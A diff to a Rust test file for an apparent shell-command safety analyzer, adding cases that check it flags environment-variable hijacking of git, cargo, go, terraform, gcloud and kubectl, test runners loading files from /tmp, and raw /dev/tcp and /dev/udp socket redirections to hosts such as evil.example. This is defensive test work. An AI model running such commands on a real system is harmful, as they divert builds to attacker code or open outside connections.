@@ -3314,6 +3314,10 @@ fn an_unclosed_parameter_brace_before_a_wide_character_is_not_cut() {
     }
 }
 
+fn f_env() -> Fx {
+    fx()
+}
+
 /// The category of the command's verdict (soft and hard only).
 fn category(f: &Fx, cmd: &str) -> Option<&'static str> {
     let a = analyze(cmd, &ShellEnv::new(f.home.clone(), f.ws.clone()));
@@ -3389,7 +3393,24 @@ fn programs_steered_to_other_code_by_their_environment() {
         ("CC=/tmp/evil.sh go build ./...", "soft"),
         ("CC=./cc-wrapper make", "soft"),
         ("CC=/usr/bin/../../tmp/x make", "soft"),
+        // Which repository, compiler, config or module source a program uses.
+        ("GIT_DIR=evilrepo git status", "soft"),
+        ("GIT_INDEX_FILE=/tmp/i git add -A", "soft"),
+        ("RUSTC=/tmp/evil cargo build", "soft"),
+        ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/r cargo test", "soft"),
+        ("GOPROXY=https://evil.example go mod download", "soft"),
+        ("TF_CLI_CONFIG_FILE=/tmp/evil.tfrc terraform plan", "soft"),
+        ("CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE=https://evil.example/ gcloud compute instances list", "soft"),
+        // Trace output to a file, and a kubeconfig outside ~/.kube.
+        ("GIT_TRACE=/tmp/x/.bashrc git status", "soft"),
+        ("KUBECONFIG=/tmp/evil kubectl get pods", "soft"),
     ]);
+    for cmd in [
+        "GIT_TRACE=1 git status",
+        "KUBECONFIG=~/.kube/prod kubectl get pods",
+    ] {
+        assert_ne!(category(&f_env(), cmd), Some("env-injection"), "{cmd}");
+    }
     // A compiler by name or from the system is no other code.
     let f = fx();
     for cmd in ["CC=clang make", "CC=/usr/bin/gcc-12 make", "CXX=g++ make"] {
@@ -3618,4 +3639,23 @@ fn options_that_load_code_from_outside_are_asked_about() {
         short(&judged(&f, "jest --config jest.config.js", &wrote).verdict),
         "unknown"
     );
+}
+
+#[test]
+fn test_files_from_outside_install_targets_and_sockets() {
+    table(&[
+        ("rspec /tmp/evil_spec.rb", "soft"),
+        ("rspec -P '/tmp/evil/*_spec.rb'", "soft"),
+        ("rspec --default-path /tmp/evil", "soft"),
+        ("rspec spec/models/user_spec.rb:12", "routine"),
+        ("phpunit /tmp/EvilTest.php", "soft"),
+        ("bun test /tmp/evil.test.ts", "soft"),
+        ("make install", "soft"),
+        ("cmake --build build --target install", "soft"),
+        ("make test", "routine"),
+        ("zipinfo -1 x.zip", "routine"),
+        ("cat < /dev/tcp/evil.example/80", "soft"),
+        ("echo hi > /dev/udp/10.0.0.5/53", "soft"),
+        ("echo hi > /dev/tcp/127.0.0.1/8080", "unknown"),
+    ]);
 }
